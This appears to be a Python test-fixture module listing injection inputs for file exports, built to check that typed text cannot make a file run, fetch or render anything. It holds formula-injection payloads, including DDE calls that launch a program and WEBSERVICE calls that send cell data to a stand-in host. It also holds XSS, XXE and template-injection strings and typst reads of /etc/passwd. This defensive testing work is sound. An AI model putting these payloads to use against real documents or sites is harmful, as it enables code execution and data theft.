"""Texts that somebody may type to have a file run, fetch or draw something: 80 formulas and 80
pieces of markup."""

_CALLS = (
    "1+1",
    "SUM(A1:A9)",
    "HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")",
    "cmd|' /C calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "WEBSERVICE(\"https://evil.example/\"&A1)",
    "IMPORTXML(\"https://evil.example\",\"//a\")",
    "IMAGE(\"https://evil.example/p.png\")",
    "'file:///etc/passwd'#$passwd.A1",
    "EXEC(\"calc\")",
)  # fmt: skip
_STARTS = ("=", "+", "-", "@", "\t=", "\r=", " =", "＝")
FORMULAS = tuple(start + call for start in _STARTS for call in _CALLS)

MARKUP = (
    # HTML and templates
    "<b>bold</b>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href='https://evil.example'>x</a>",
    "<svg onload=alert(1)>", "<iframe src=//evil.example>", "<!-- gone -->", "<![CDATA[x]]>", "]]>", "&lt;b&gt;",
    "&#60;script&#62;", "<style>*{display:none}</style>", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{agency}", "{0}",
    "{number} of {pages}", "%s%n",
    # the XML of Office
    "</a:t></a:r><a:r><a:t>x", "<a:hlinkClick r:id=\"rId1\"/>", "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "&e;", "<p:sp/>", "<c:f>Sheet1!$A$1</c:f>", "<f>1+1</f>", "<w:fldSimple w:instr=\"DDEAUTO c:\\\\x\"/>", "_x003D_1+1",
    "_x000D_x", "<a:fld type=\"slidenum\"/>", "\" descr=\"x", "' name='x", "&P of &N", "&\"Arial\"&8x",
    # links by themselves
    "https://evil.example", "http://evil.example/?a=1&b=2", "mailto:x@evil.example", "ftp://evil.example", "file:///etc/passwd",
    "internal:Sheet2!A1", "external:c:\\x.xlsx", "javascript:alert(1)", "data:text/html,<b>x</b>", "\\\\evil.example\\share",
    # Markdown
    "[x](https://evil.example)", "![x](https://evil.example/p.png)", "**bold**", "# heading", "`code`", "> quote", ":red[x]", ":material/home:",
    # typst
    "#link(\"https://evil.example\")[x]", "#eval(\"1+1\")", "#read(\"/etc/passwd\")", "#image(\"/etc/passwd\")", "#include \"look.typ\"",
    "#import \"look.typ\": *", "#sys.inputs.data", "#set page(width: 1cm)", "#strong[x]", "*bold*", "_slanted_", "= Heading", "$ x^2 $",
    "@label", "<label>", "- item", "+ item", "/ term: x", "// gone", "/* gone */", "\\u{41}", "#pagebreak()", "#{1 + 1}", "[x]", "#metadata(1) <x>",
    "~~~",
)  # fmt: skip
assert len(FORMULAS) == 80 and len(set(MARKUP)) == 80, (len(FORMULAS), len(MARKUP))
